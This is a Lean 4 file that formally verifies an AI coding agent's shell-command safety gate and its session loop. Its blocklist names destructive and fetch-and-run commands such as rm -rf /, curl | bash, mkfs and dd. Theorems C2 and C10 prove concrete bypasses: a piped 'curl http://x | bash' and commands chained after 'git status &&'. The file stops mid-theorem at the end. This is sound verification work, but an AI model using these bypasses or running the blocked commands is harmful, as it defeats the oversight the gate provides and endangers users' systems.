import Mathlib

/-!
Verification of the HS-Agent driver core: the command-execution safety
gate (src/agent/security.py) and the session loop state machine
(src/agent/agent.py).  Python strings are modelled as `List Char`;
fallible/streamed behaviour is modelled by explicit event lists.
-/

namespace HSAgent

/-! ### Command Gate — embedding of src/agent/security.py -/

/-- Whitespace characters recognised by Python's `str.split()` /
`str.strip()` (ASCII subset). -/
def isSpaceChar (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- ASCII lower-casing of one character, as Python `str.lower()` acts on
ASCII input. -/
def lowerChar (c : Char) : Char :=
  if 'A' ≤ c ∧ c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

/-- Lower-casing of a whole string. -/
def lowerStr (s : List Char) : List Char :=
  s.map lowerChar

/-- `startsWithSeq p s` holds when `p` is an initial segment of `s`. -/
def startsWithSeq : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && startsWithSeq as bs

/-- `hasSub p s` holds when `p` occurs contiguously inside `s`
(Python's `p in s` on strings). -/
def hasSub (p : List Char) : List Char → Bool
  | [] => p.isEmpty
  | b :: bs => startsWithSeq p (b :: bs) || hasSub p bs

/-- `ALLOWED_COMMANDS` from src/agent/security.py (lines 12-56). -/
def ALLOWED_COMMANDS : List (List Char) :=
  ["ls".toList, "cat".toList, "head".toList, "tail".toList, "wc".toList,
   "grep".toList, "find".toList, "cp".toList, "mkdir".toList, "chmod".toList,
   "pwd".toList, "tree".toList, "diff".toList,
   "npm".toList, "node".toList, "npx".toList, "tsx".toList,
   "git".toList,
   "ps".toList, "lsof".toList, "pkill".toList, "sleep".toList,
   "curl".toList,
   "tsc".toList,
   "jest".toList, "vitest".toList,
   "esbuild".toList, "vite".toList]

/-- `BLOCKED_PATTERNS` from src/agent/security.py (lines 59-81). -/
def BLOCKED_PATTERNS : List (List Char) :=
  ["rm -rf /".toList, "rm -rf ~".toList, "rm -rf /*".toList, "> /dev/".toList,
   "| rm".toList, "; rm".toList, "&& rm -rf".toList, "sudo".toList,
   "chmod 777".toList, "curl | bash".toList, "curl | sh".toList,
   "wget | bash".toList, "wget | sh".toList, "eval".toList, "$(curl".toList,
   "$(wget".toList, "mkfs".toList, "dd if=".toList, ":()\x7b".toList,
   ">/dev/sda".toList, ">/dev/null 2>&1 &".toList]

/-- The scan inside `contains_blocked_pattern` (security.py lines 107-109):
first pattern of `ps` whose lower-casing occurs in the (already lowered)
command `cl`. -/
def findBlocked (cl : List Char) : List (List Char) → Option (List Char)
  | [] => none
  | p :: ps => if hasSub (lowerStr p) cl then some p else findBlocked cl ps

/-- `contains_blocked_pattern` from src/agent/security.py (lines 104-110). -/
def contains_blocked_pattern (command : List Char) : Bool × List Char :=
  match findBlocked (lowerStr command) BLOCKED_PATTERNS with
  | some p => (true, "Contains blocked pattern: ".toList ++ p)
  | none => (false, [])

/-- Python `str.split()` (no separator): split on whitespace runs,
dropping empty pieces.  `acc` holds the current token reversed. -/
def splitWsAux : List Char → List Char → List (List Char)
  | [], acc => if acc.isEmpty then [] else [acc.reverse]
  | c :: cs, acc =>
    if isSpaceChar c then
      if acc.isEmpty then splitWsAux cs [] else acc.reverse :: splitWsAux cs []
    else splitWsAux cs (c :: acc)

/-- `command.strip().split()` from security.py line 94. -/
def splitWs (s : List Char) : List (List Char) :=
  splitWsAux s []

/-- `cmd.split("/")[-1]` from security.py line 100: the part after the
last slash (the whole token when there is no slash). -/
def lastSegment (t : List Char) : List Char :=
  (t.reverse.takeWhile (fun c => c != '/')).reverse

/-- The token search of security.py lines 95-98: skip tokens that contain
`=` and do not start with `-`; return the first remaining token. -/
def findCmdToken : List (List Char) → Option (List Char)
  | [] => none
  | t :: ts =>
    if ('=' ∈ t) ∧ t.head? ≠ some '-' then findCmdToken ts else some t

/-- `get_command_name` from src/agent/security.py (lines 84-101). -/
def get_command_name (command : List Char) : List Char :=
  match findCmdToken (splitWs command) with
  | some t => lastSegment t
  | none => []

/-- `is_command_allowed` from src/agent/security.py (lines 113-137). -/
def is_command_allowed (command : List Char) : Bool × List Char :=
  if command.all isSpaceChar then (false, "Empty command".toList)
  else
    let bl := contains_blocked_pattern command
    if bl.1 then (false, bl.2)
    else
      let base := get_command_name command
      if base.isEmpty then (false, "Could not parse command".toList)
      else if base ∈ ALLOWED_COMMANDS then (true, [])
      else (false, "Command \x27".toList ++ base ++ "\x27 is not in allowlist".toList)

/-! ### Command Gate — helper lemmas -/

theorem startsWithSeq_subset {p s : List Char} (h : startsWithSeq p s = true) :
    ∀ a ∈ p, a ∈ s := by
  induction p generalizing s with
  | nil => intro a ha; cases ha
  | cons x xs ih =>
    cases s with
    | nil => simp [startsWithSeq] at h
    | cons b bs =>
      rw [startsWithSeq, Bool.and_eq_true, beq_iff_eq] at h
      intro a ha
      rcases List.mem_cons.1 ha with rfl | ha
      · rw [h.1]; exact List.mem_cons_self _ _
      · exact List.mem_cons_of_mem _ (ih h.2 a ha)

theorem hasSub_subset {p s : List Char} (h : hasSub p s = true) : ∀ a ∈ p, a ∈ s := by
  induction s with
  | nil =>
    cases p with
    | nil => intro a ha; cases ha
    | cons x xs => rw [hasSub, List.isEmpty] at h; cases h
  | cons b bs ih =>
    rw [hasSub, Bool.or_eq_true] at h
    rcases h with h | h
    · exact startsWithSeq_subset h
    · intro a ha; exact List.mem_cons_of_mem _ (ih h a ha)

theorem findBlocked_eq_none_iff (cl : List Char) (ps : List (List Char)) :
    findBlocked cl ps = none ↔ ∀ p ∈ ps, hasSub (lowerStr p) cl = false := by
  induction ps with
  | nil => simp [findBlocked]
  | cons q qs ih =>
    rw [findBlocked]
    by_cases hq : hasSub (lowerStr q) cl = true
    · simp [hq]
    · rw [Bool.not_eq_true] at hq
      simp [hq, ih]

theorem findBlocked_eq_some {cl : List Char} {ps : List (List Char)} {p : List Char}
    (h : findBlocked cl ps = some p) :
    p ∈ ps ∧ hasSub (lowerStr p) cl = true := by
  induction ps with
  | nil => cases h
  | cons q qs ih =>
    rw [findBlocked] at h
    by_cases hq : hasSub (lowerStr q) cl = true
    · rw [if_pos hq] at h
      cases h
      exact ⟨List.mem_cons_self _ _, hq⟩
    · rw [if_neg hq] at h
      obtain ⟨hm, hs⟩ := ih h
      exact ⟨List.mem_cons_of_mem _ hm, hs⟩

theorem isSpaceChar_lowerChar {c : Char} (h : isSpaceChar c = true) :
    lowerChar c = c := by
  rw [isSpaceChar] at h
  simp only [Bool.or_eq_true, beq_iff_eq] at h
  rcases h with ((((h | h) | h) | h) | h) | h <;> subst h <;> decide

theorem lowerStr_all_space {s : List Char} (h : s.all isSpaceChar = true) :
    (lowerStr s).all isSpaceChar = true := by
  rw [List.all_eq_true] at h ⊢
  intro c hc
  rw [lowerStr, List.mem_map] at hc
  obtain ⟨a, ha, rfl⟩ := hc
  rw [isSpaceChar_lowerChar (h a ha)]
  exact h a ha

theorem blocked_patterns_nonspace :
    ∀ p ∈ BLOCKED_PATTERNS, (lowerStr p).any (fun c => !isSpaceChar c) = true := by
  decide

theorem blocked_not_space {c p : List Char} (hp : p ∈ BLOCKED_PATTERNS)
    (hs : hasSub (lowerStr p) (lowerStr c) = true) :
    c.all isSpaceChar = false := by
  by_contra h
  rw [Bool.not_eq_false] at h
  have hl := lowerStr_all_space h
  have hany := blocked_patterns_nonspace p hp
  rw [List.any_eq_true] at hany
  obtain ⟨a, ha, hna⟩ := hany
  have hmem : a ∈ lowerStr c := hasSub_subset hs a ha
  rw [List.all_eq_true] at hl
  have := hl a hmem
  rw [this] at hna
  cases hna

theorem splitWsAux_all_space {s : List Char} (h : s.all isSpaceChar = true) :
    splitWsAux s [] = [] := by
  induction s with
  | nil => rfl
  | cons c cs ih =>
    rw [List.all_cons, Bool.and_eq_true] at h
    rw [splitWsAux, if_pos h.1]
    simpa using ih h.2

theorem get_command_name_all_space {c : List Char} (h : c.all isSpaceChar = true) :
    get_command_name c = [] := by
  rw [get_command_name, splitWs, splitWsAux_all_space h]
  rfl

/-! ### Command Gate — claims -/

/-- C1: a command containing any blocklisted fragment (case-insensitively)
is denied with a reason naming the matched fragment, even when the command
also contains an allowlisted program name; in particular
`is_command_allowed "sudo npm install"` is denied on the fragment `sudo`
although `npm` is allowlisted. -/
theorem blocklist_beats_allowlist (c : List Char)
    (h : ∃ p ∈ BLOCKED_PATTERNS, hasSub (lowerStr p) (lowerStr c) = true) :
    (is_command_allowed c).1 = false ∧
    (∃ p ∈ BLOCKED_PATTERNS, hasSub (lowerStr p) (lowerStr c) = true ∧
      (is_command_allowed c).2 = "Contains blocked pattern: ".toList ++ p) ∧
    is_command_allowed "sudo npm install".toList =
      (false, "Contains blocked pattern: sudo".toList) ∧
    "npm".toList ∈ ALLOWED_COMMANDS := by
  obtain ⟨p, hp, hsub⟩ := h
  have hns := blocked_not_space hp hsub
  have hsome : ∃ q, findBlocked (lowerStr c) BLOCKED_PATTERNS = some q := by
    cases hq : findBlocked (lowerStr c) BLOCKED_PATTERNS with
    | some q => exact ⟨q, rfl⟩
    | none =>
      have := (findBlocked_eq_none_iff _ _).1 hq p hp
      rw [hsub] at this
      cases this
  obtain ⟨q, hq⟩ := hsome
  obtain ⟨hqm, hqs⟩ := findBlocked_eq_some hq
  have hbl : contains_blocked_pattern c =
      (true, "Contains blocked pattern: ".toList ++ q) := by
    rw [contains_blocked_pattern, hq]
  have heval : is_command_allowed c = (false, "Contains blocked pattern: ".toList ++ q) := by
    rw [is_command_allowed, if_neg (by rw [hns]; exact Bool.false_ne_true)]
    simp only [hbl]
    rfl
  refine ⟨by rw [heval], ⟨q, hqm, hqs, by rw [heval]⟩, by decide, by decide⟩

theorem blocklist_beats_allowlist_witness :
    (is_command_allowed "sudo npm install".toList).1 = false :=
  (blocklist_beats_allowlist "sudo npm install".toList (by decide)).1

/-- C2 (code bug): the blocklist entry `curl | bash` only matches the
literal substring, so `is_command_allowed "curl http://x | bash"` is
ALLOWED by the code (base command `curl` is allowlisted), while the
literal `curl | bash` is denied. -/
theorem curl_pipe_bash_allowed_by_code :
    is_command_allowed "curl http://x | bash".toList = (true, []) ∧
    is_command_allowed "curl | bash".toList =
      (false, "Contains blocked pattern: curl | bash".toList) := by
  decide

/-- C6: a command whose extracted base name is allowlisted and which
contains no blocklisted fragment is allowed with an empty reason, and
every denial carries a non-empty reason. -/
theorem allowlist_allows_and_denials_have_reason :
    (∀ c : List Char,
      get_command_name c ∈ ALLOWED_COMMANDS →
      (∀ p ∈ BLOCKED_PATTERNS, hasSub (lowerStr p) (lowerStr c) = false) →
      is_command_allowed c = (true, [])) ∧
    (∀ c : List Char, (is_command_allowed c).1 = false →
      (is_command_allowed c).2 ≠ []) := by
  constructor
  · intro c hmem hnb
    have hfb : findBlocked (lowerStr c) BLOCKED_PATTERNS = none :=
      (findBlocked_eq_none_iff _ _).2 hnb
    have hbl : contains_blocked_pattern c = (false, []) := by
      rw [contains_blocked_pattern, hfb]
    have hns : c.all isSpaceChar = false := by
      by_contra h
      rw [Bool.not_eq_false] at h
      rw [get_command_name_all_space h] at hmem
      exact absurd hmem (by decide)
    have hne : ¬ (get_command_name c).isEmpty = true := by
      cases hgc : get_command_name c with
      | nil => rw [hgc] at hmem; exact absurd hmem (by decide)
      | cons x xs => simp
    rw [is_command_allowed, if_neg (by rw [hns]; exact Bool.false_ne_true)]
    simp only [hbl]
    rw [if_neg (by decide : ¬ ((false, ([] : List Char)).1 = true)), if_neg hne,
      if_pos hmem]
  · intro c h
    by_cases hsp : c.all isSpaceChar = true
    · rw [is_command_allowed, if_pos hsp]
      decide
    · rw [Bool.not_eq_true] at hsp
      have hsp2 : ¬ c.all isSpaceChar = true := by rw [hsp]; exact Bool.false_ne_true
      rw [is_command_allowed, if_neg hsp2] at h ⊢
      cases hfb : findBlocked (lowerStr c) BLOCKED_PATTERNS with
      | some p =>
        have hbl : contains_blocked_pattern c =
            (true, "Contains blocked pattern: ".toList ++ p) := by
          rw [contains_blocked_pattern, hfb]
        simp only [hbl]
        rw [if_pos trivial, Ne, List.append_eq_nil]
        rintro ⟨h1, -⟩
        exact absurd h1 (by decide)
      | none =>
        have hbl : contains_blocked_pattern c = (false, []) := by
          rw [contains_blocked_pattern, hfb]
        simp only [hbl] at h ⊢
        rw [if_neg (by decide : ¬ ((false, ([] : List Char)).1 = true))] at h ⊢
        by_cases hbe : (get_command_name c).isEmpty = true
        · rw [if_pos hbe]
          decide
        · rw [if_neg hbe] at h ⊢
          by_cases hmem : get_command_name c ∈ ALLOWED_COMMANDS
          · rw [if_pos hmem] at h
            exact absurd h (by decide)
          · rw [if_neg hmem, Ne, List.append_eq_nil, List.append_eq_nil]
            rintro ⟨⟨h1, -⟩, -⟩
            exact absurd h1 (by decide)

theorem allowlist_allows_witness :
    is_command_allowed "git status".toList = (true, []) ∧
    (is_command_allowed "foobar --version".toList).2 ≠ [] :=
  ⟨allowlist_allows_and_denials_have_reason.1 "git status".toList
      (by decide) (by decide),
   allowlist_allows_and_denials_have_reason.2 "foobar --version".toList
      (by decide)⟩

/-- C7: base-command extraction skips leading `NAME=value` tokens and
strips path prefixes: `NODE_ENV=test npm test` is allowed with base `npm`,
`NODE_ENV=test sudo npm test` is denied on `sudo`, and
`/usr/bin/node x.js` gets the same decision as `node x.js`. -/
theorem base_extraction_env_and_path :
    get_command_name "NODE_ENV=test npm test".toList = "npm".toList ∧
    is_command_allowed "NODE_ENV=test npm test".toList = (true, []) ∧
    is_command_allowed "NODE_ENV=test sudo npm test".toList =
      (false, "Contains blocked pattern: sudo".toList) ∧
    get_command_name "/usr/bin/node x.js".toList = "node".toList ∧
    (is_command_allowed "/usr/bin/node x.js".toList).1 =
      (is_command_allowed "node x.js".toList).1 := by
  decide

/-- C10: the gate inspects nothing after the base command name — any
command starting `git status && ` that triggers no blocklisted fragment
is allowed whatever follows; in particular `git status && foobar` is
allowed although `foobar` is not allowlisted. -/
theorem gate_ignores_tokens_after_base :
    (∀ rest : List Char,
      (∀ p ∈ BLOCKED_PATTERNS,
        hasSub (lowerStr p) (lowerStr ("git status && ".toList ++ rest)) = false) →
      is_command_allowed ("git status && ".toList ++ rest) = (true, [])) ∧
    is_command_allowed "git status && foobar".toList = (true, []) ∧
    "foobar".toList ∉ ALLOWED_COMMANDS := by
  refine ⟨?_, by decide, by decide⟩
  intro rest h
  have hbase : get_command_name ("git status && ".toList ++ rest) = "git".toList := rfl
  have hsp : ("git status && ".toList ++ rest).all isSpaceChar = false := rfl
  have hfb : findBlocked (lowerStr ("git status && ".toList ++ rest)) BLOCKED_PATTERNS = none :=
    (findBlocked_eq_none_iff _ _).2 h
  have hbl : contains_blocked_pattern ("git status && ".toList ++ rest) = (false, []) := by
    rw [contains_blocked_pattern, hfb]
  rw [is_command_allowed, if_neg (by rw [hsp]; exact Bool.false_ne_true)]
  simp only [hbl, hbase]
  rfl

theorem gate_ignores_tokens_after_base_witness :
    is_command_allowed ("git status && ".toList ++ "foobar".toList) = (true, []) :=
  gate_ignores_tokens_after_base.1 "foobar".toList (by decide)

/-! ### Session Runner — embedding of `run_agent_session`
(src/agent/agent.py lines 45-94) -/

/-- Session outcome statuses of `run_agent_session`. -/
inductive Status where
  | success
  | error
  | interrupted
deriving DecidableEq

/-- Content blocks inside an assistant message (agent.py lines 68-81). -/
inductive Block where
  | text (s : List Char)
  | toolUse (name : List Char)
  | toolResult (content : List Char)
deriving DecidableEq

/-- Messages of the response stream (agent.py lines 67-87); `result`
carries the optional error field of a `ResultMessage`. -/
inductive Msg where
  | assistant (blocks : List Block)
  | result (error : Option (List Char))
  | other
deriving DecidableEq

/-- One step of the event stream as observed inside the `try` block:
either the next message arrives, or the awaited receive raises
(`KeyboardInterrupt`, caught at line 91, or any other exception, caught
at line 93). -/
inductive StreamStep where
  | msg (m : Msg)
  | keyboardInterrupt
  | exceptionRaised (e : List Char)
deriving DecidableEq

/-- The `full_response.append(block.text)` accumulation (lines 68-72):
only `TextBlock` contents are collected. -/
def textsOf (blocks : List Block) : List (List Char) :=
  blocks.filterMap (fun b =>
    match b with
    | Block.text s => some s
    | _ => none)

/-- The receive loop of `run_agent_session` (agent.py lines 61-94):
a `ResultMessage` whose error field is truthy returns ERROR at once
(line 87); a raised `KeyboardInterrupt` returns INTERRUPTED (line 92);
any other raised exception returns ERROR with its description (line 94);
an exhausted stream returns SUCCESS with the joined text (line 89). -/
def sessionLoop : List StreamStep → List (List Char) → Status × List Char
  | [], acc => (Status.success, acc.flatten)
  | StreamStep.keyboardInterrupt :: _, _ =>
    (Status.interrupted, "User interrupted".toList)
  | StreamStep.exceptionRaised e :: _, _ => (Status.error, e)
  | StreamStep.msg (Msg.assistant blocks) :: rest, acc =>
    sessionLoop rest (acc ++ textsOf blocks)
  | StreamStep.msg (Msg.result err) :: rest, acc =>
    match err with
    | some e => if e.isEmpty then sessionLoop rest acc else (Status.error, e)
    | none => sessionLoop rest acc
  | StreamStep.msg Msg.other :: rest, acc => sessionLoop rest acc

/-- `run_agent_session` (agent.py lines 45-94) as a function of the event
stream the agent produces. -/
def run_agent_session (stream : List StreamStep) : Status × List Char :=
  sessionLoop stream []

/-- A step after which the receive loop keeps running: any message except
a `ResultMessage` carrying a truthy error, and no raised fault. -/
def stepContinues : StreamStep → Bool
  | StreamStep.msg (Msg.result (some e)) => e.isEmpty
  | StreamStep.msg _ => true
  | _ => false

/-- A stream segment the receive loop runs through without returning. -/
def cleanSteps (l : List StreamStep) : Bool :=
  l.all stepContinues

/-! ### Loop Controller — embedding of `run_autonomous_agent`
(src/agent/agent.py lines 97-171) -/

/-- The two prompt-selection modes (agent.py lines 122-127). -/
inductive Mode where
  | initializer
  | coding
deriving DecidableEq

/-- One performed iteration of the loop: the 1-based counter, the mode
chosen, the session outcome, the marker-file state when the iteration
started and when it ended, and whether the 10-second error backoff
(line 145) was applied. -/
structure IterRec where
  iteration : Nat
  mode : Mode
  status : Status
  markerBefore : Bool
  markerAfter : Bool
  backoffApplied : Bool
deriving DecidableEq

/-- The `while iteration < max_iterations` loop (agent.py lines 115-166)
compiled to structural recursion on the remaining budget
`fuel = max_iterations - iteration`.  `outcomes i` is the Session Runner
outcome for iteration `i`; `ext i m` is the marker-file state the
filesystem presents at the start of iteration `i` when it was `m`
before, modelling possible external modification (the code itself reads
the marker only once, before the loop, into `is_first_run`, and never
re-reads it).  Returns the list of performed iterations. -/
def runLoopFuel (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) :
    Nat → Nat → Bool → Bool → List IterRec
  | 0, _, _, _ => []
  | fuel + 1, iteration, isFirstRun, marker =>
    let i := iteration + 1
    let fs := ext i marker
    let mode := cond isFirstRun Mode.initializer Mode.coding
    match outcomes i with
    | Status.interrupted => [⟨i, mode, Status.interrupted, fs, fs, false⟩]
    | Status.error =>
      ⟨i, mode, Status.error, fs, fs, true⟩ ::
        runLoopFuel outcomes ext initOnly fuel i isFirstRun fs
    | Status.success =>
      cond isFirstRun
        (cond initOnly [⟨i, mode, Status.success, fs, true, false⟩]
          (⟨i, mode, Status.success, fs, true, false⟩ ::
            runLoopFuel outcomes ext initOnly fuel i false true))
        (⟨i, mode, Status.success, fs, fs, false⟩ ::
          runLoopFuel outcomes ext initOnly fuel i isFirstRun fs)

/-- `run_autonomous_agent` (agent.py lines 97-171).  Its inputs are the
session outcomes, the external filesystem behaviour, whether the marker
file exists at start (`marker0`, read once at line 113 into the cached
`is_first_run` flag), `max_iterations` and `init_only` — the function
has no skip-init parameter. -/
def run_autonomous_agent (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (marker0 : Bool) (max_iterations : Nat) (init_only : Bool) : List IterRec :=
  runLoopFuel outcomes ext init_only max_iterations 0 (!marker0) marker0

/-- `[s, s+1, ..., s+n-1]`: the expected iteration numbering. -/
def iterSeq (s : Nat) : Nat → List Nat
  | 0 => []
  | n + 1 => s :: iterSeq (s + 1) n

/-! ### Loop Controller — helper lemmas -/

theorem runLoopFuel_length_le (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) :
    ∀ fuel iteration isFirstRun marker,
      (runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker).length ≤
        fuel := by
  intro fuel
  induction fuel with
  | zero => intro it f m; simp [runLoopFuel]
  | succ n ih =>
    intro it f m
    simp only [runLoopFuel]
    cases h : outcomes (it + 1) with
    | interrupted => simp
    | error => simpa using ih (it + 1) f (ext (it + 1) m)
    | success =>
      cases f with
      | false => simpa using ih (it + 1) false (ext (it + 1) m)
      | true =>
        cases initOnly with
        | true => simp
        | false => simpa using ih (it + 1) false true

theorem runLoopFuel_iterations (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) :
    ∀ fuel iteration isFirstRun marker,
      (runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker).map
          IterRec.iteration =
        iterSeq (iteration + 1)
          (runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker).length := by
  intro fuel
  induction fuel with
  | zero => intro it f m; simp [runLoopFuel, iterSeq]
  | succ n ih =>
    intro it f m
    simp only [runLoopFuel]
    cases h : outcomes (it + 1) with
    | interrupted => simp [iterSeq]
    | error => simp [iterSeq, ih]
    | success =>
      cases f with
      | false => simp [iterSeq, ih]
      | true =>
        cases initOnly with
        | true => simp [iterSeq]
        | false => simp [iterSeq, ih]

theorem runLoopFuel_ne_nil (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) (n it : Nat) (f m : Bool) :
    runLoopFuel outcomes ext initOnly (n + 1) it f m ≠ [] := by
  simp only [runLoopFuel]
  cases h : outcomes (it + 1) <;> cases f <;> cases initOnly <;> simp

theorem getLast?_cons_of_ne_nil {α : Type} (a : α) {l : List α} (h : l ≠ []) :
    (a :: l).getLast? = l.getLast? := by
  cases l with
  | nil => cases h rfl
  | cons b bs => rfl

theorem runLoopFuel_getLast_error (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) :
    ∀ fuel iteration isFirstRun marker r,
      (runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker).getLast? =
        some r →
      r.status = Status.error → r.iteration = iteration + fuel := by
  intro fuel
  induction fuel with
  | zero => intro it f m r hl; simp [runLoopFuel] at hl
  | succ n ih =>
    intro it f m r hl hs
    simp only [runLoopFuel] at hl
    cases h : outcomes (it + 1) with
    | interrupted =>
      rw [h] at hl
      simp only [List.getLast?_singleton, Option.some_inj] at hl
      rw [← hl] at hs
      cases hs
    | error =>
      rw [h] at hl
      cases n with
      | zero =>
        simp only [runLoopFuel, List.getLast?_singleton, Option.some_inj] at hl
        rw [← hl]
      | succ k =>
        rw [getLast?_cons_of_ne_nil _ (runLoopFuel_ne_nil _ _ _ _ _ _ _)] at hl
        have := ih (it + 1) f (ext (it + 1) m) r hl hs
        omega
    | success =>
      rw [h] at hl
      cases f with
      | false =>
        simp only [cond] at hl
        cases n with
        | zero =>
          simp only [runLoopFuel, List.getLast?_singleton, Option.some_inj] at hl
          rw [← hl] at hs
          cases hs
        | succ k =>
          rw [getLast?_cons_of_ne_nil _ (runLoopFuel_ne_nil _ _ _ _ _ _ _)] at hl
          have := ih (it + 1) false (ext (it + 1) m) r hl hs
          omega
      | true =>
        simp only [cond] at hl
        cases initOnly with
        | true =>
          simp only [cond, List.getLast?_singleton, Option.some_inj] at hl
          rw [← hl] at hs
          cases hs
        | false =>
          simp only [cond] at hl
          cases n with
          | zero =>
            simp only [runLoopFuel, List.getLast?_singleton, Option.some_inj] at hl
            rw [← hl] at hs
            cases hs
          | succ k =>
            rw [getLast?_cons_of_ne_nil _ (runLoopFuel_ne_nil _ _ _ _ _ _ _)] at hl
            have := ih (it + 1) false true r hl hs
            omega

theorem runLoopFuel_record_facts (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) :
    ∀ fuel iteration isFirstRun marker r,
      r ∈ runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker →
      (r.status = Status.error →
        r.backoffApplied = true ∧ r.markerAfter = r.markerBefore) ∧
      (r.markerAfter ≠ r.markerBefore →
        r.status = Status.success ∧ r.mode = Mode.initializer ∧
          r.markerAfter = true) := by
  intro fuel
  induction fuel with
  | zero => intro it f m r hr; simp [runLoopFuel] at hr
  | succ n ih =>
    intro it f m r hr
    simp only [runLoopFuel] at hr
    cases h : outcomes (it + 1) with
    | interrupted =>
      rw [h] at hr
      simp only [List.mem_singleton] at hr
      subst hr
      exact ⟨(fun hs => nomatch hs), fun hm => absurd rfl hm⟩
    | error =>
      rw [h] at hr
      rcases List.mem_cons.1 hr with rfl | hr
      · exact ⟨fun _ => ⟨rfl, rfl⟩, fun hm => absurd rfl hm⟩
      · exact ih (it + 1) f (ext (it + 1) m) r hr
    | success =>
      rw [h] at hr
      cases f with
      | false =>
        simp only [cond] at hr
        rcases List.mem_cons.1 hr with rfl | hr
        · exact ⟨(fun hs => nomatch hs), fun hm => absurd rfl hm⟩
        · exact ih (it + 1) false (ext (it + 1) m) r hr
      | true =>
        simp only [cond] at hr
        cases initOnly with
        | true =>
          simp only [cond, List.mem_singleton] at hr
          subst hr
          exact ⟨(fun hs => nomatch hs), fun _ => ⟨rfl, rfl, rfl⟩⟩
        | false =>
          simp only [cond] at hr
          rcases List.mem_cons.1 hr with rfl | hr
          · exact ⟨(fun hs => nomatch hs), fun _ => ⟨rfl, rfl, rfl⟩⟩
          · exact ih (it + 1) false true r hr

theorem runLoopFuel_cached_flag (outcomes : Nat → Status) (ext : Nat → Bool → Bool)
    (initOnly : Bool) (hext : ∀ i m, ext i m = m) :
    ∀ fuel iteration isFirstRun marker, isFirstRun = !marker →
      ∀ r ∈ runLoopFuel outcomes ext initOnly fuel iteration isFirstRun marker,
        r.markerBefore = true → r.mode = Mode.coding := by
  intro fuel
  induction fuel with
  | zero => intro it f m _ r hr; simp [runLoopFuel] at hr
  | succ n ih =>
    intro it f m hf r hr hm
    subst hf
    simp only [runLoopFuel] at hr
    cases m with
    | true =>
      cases h : outcomes (it + 1) with
      | interrupted =>
        rw [h] at hr
        obtain rfl := List.mem_singleton.1 hr
        rfl
      | error =>
        rw [h] at hr
        rcases List.mem_cons.1 hr with rfl | hr2
        · rfl
        · exact ih (it + 1) (!true) (ext (it + 1) true) (by rw [hext]) r hr2 hm
      | success =>
        rw [h] at hr
        rcases List.mem_cons.1 hr with rfl | hr2
        · rfl
        · exact ih (it + 1) (!true) (ext (it + 1) true) (by rw [hext]) r hr2 hm
    | false =>
      cases h : outcomes (it + 1) with
      | interrupted =>
        rw [h] at hr
        obtain rfl := List.mem_singleton.1 hr
        have hm2 : ext (it + 1) false = true := hm
        rw [hext] at hm2
        cases hm2
      | error =>
        rw [h] at hr
        rcases List.mem_cons.1 hr with rfl | hr2
        · have hm2 : ext (it + 1) false = true := hm
          rw [hext] at hm2
          cases hm2
        · exact ih (it + 1) (!false) (ext (it + 1) false) (by rw [hext]) r hr2 hm
      | success =>
        rw [h] at hr
        cases initOnly with
        | true =>
          obtain rfl := List.mem_singleton.1 hr
          have hm2 : ext (it + 1) false = true := hm
          rw [hext] at hm2
          cases hm2
        | false =>
          rcases List.mem_cons.1 hr with rfl | hr2
          · have hm2 : ext (it + 1) false = true := hm
            rw [hext] at hm2
            cases hm2
          · exact ih (it + 1) false true rfl r hr2 hm

/-! ### Loop Controller — claims -/

/-- C5: for every `max_iterations = N`, the loop terminates after at most
`N` Session Runner invocations — one per performed iteration, the
iteration counter counting strictly up from 1 — with ERROR iterations
counted toward the bound. -/
theorem loop_at_most_N_sessions (outcomes : Nat → Status)
    (ext : Nat → Bool → Bool) (marker0 : Bool) (N : Nat) (init_only : Bool) :
    (run_autonomous_agent outcomes ext marker0 N init_only).length ≤ N ∧
    (run_autonomous_agent outcomes ext marker0 N init_only).map IterRec.iteration =
      iterSeq 1 (run_autonomous_agent outcomes ext marker0 N init_only).length :=
  ⟨runLoopFuel_length_le outcomes ext init_only N 0 (!marker0) marker0,
   runLoopFuel_iterations outcomes ext init_only N 0 (!marker0) marker0⟩

/-- C8: an ERROR outcome never ends the loop before `max_iterations` (a
final ERROR record can only occur at iteration `N`), every ERROR
iteration applies the fixed backoff and leaves the marker state
unchanged, and the marker is only ever written (changed) by a successful
INITIALIZER-mode iteration. -/
theorem error_retries_and_marker_unchanged (outcomes : Nat → Status)
    (ext : Nat → Bool → Bool) (marker0 : Bool) (N : Nat) (init_only : Bool) :
    (∀ r, (run_autonomous_agent outcomes ext marker0 N init_only).getLast? = some r →
      r.status = Status.error → r.iteration = N) ∧
    (∀ r ∈ run_autonomous_agent outcomes ext marker0 N init_only,
      r.status = Status.error →
        r.backoffApplied = true ∧ r.markerAfter = r.markerBefore) ∧
    (∀ r ∈ run_autonomous_agent outcomes ext marker0 N init_only,
      r.markerAfter ≠ r.markerBefore →
        r.status = Status.success ∧ r.mode = Mode.initializer ∧
          r.markerAfter = true) :=
  ⟨fun r hl hs => by
      have := runLoopFuel_getLast_error outcomes ext init_only N 0 (!marker0) marker0 r hl hs
      omega,
   fun r hr => (runLoopFuel_record_facts outcomes ext init_only N 0 (!marker0) marker0 r hr).1,
   fun r hr => (runLoopFuel_record_facts outcomes ext init_only N 0 (!marker0) marker0 r hr).2⟩

theorem error_retries_and_marker_unchanged_witness :
    (⟨2, Mode.initializer, Status.error, false, false, true⟩ : IterRec).iteration = 2 ∧
    (⟨1, Mode.initializer, Status.error, false, false, true⟩ : IterRec).backoffApplied =
        true ∧
      (⟨1, Mode.initializer, Status.error, false, false, true⟩ : IterRec).markerAfter =
        (⟨1, Mode.initializer, Status.error, false, false, true⟩ : IterRec).markerBefore :=
